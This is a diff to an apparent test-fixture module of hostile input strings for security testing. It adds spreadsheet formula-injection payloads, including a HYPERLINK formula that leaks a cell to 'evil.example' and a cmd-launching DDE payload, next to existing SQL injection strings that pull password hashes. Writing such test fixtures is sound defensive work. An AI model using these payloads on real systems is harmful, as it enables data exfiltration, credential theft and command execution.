@@ -50,6 +50,15 @@ SQL = (
     "%' AND 1=0 UNION SELECT username, password_hash FROM user_account --",
     "\\'; SELECT pg_sleep(5); --",
 )
+#: spreadsheet formula injection (exports and imported cells)
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"bấm")',
+    "=1+1",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+)
 UNICODE = (
     "Xã \u202eđảo ngược\u202c chữ",  # right-to-left override
     "Tên\u200bcó\u200ckhoảng\u200drộng\ufeff0",  # zero-width characters
@@ -69,6 +78,6 @@ LONG = (
     "Đường giao thông nông thôn " * 300,
     "<" * 2000 + "script>window.__xss=1</script>",
 )
-HOSTILE_STRINGS: tuple[str, ...] = MARKUP + SQL + UNICODE + LONG
+HOSTILE_STRINGS: tuple[str, ...] = MARKUP + SQL + FORMULAS + UNICODE + LONG
 
 assert len(HOSTILE_STRINGS) >= 50
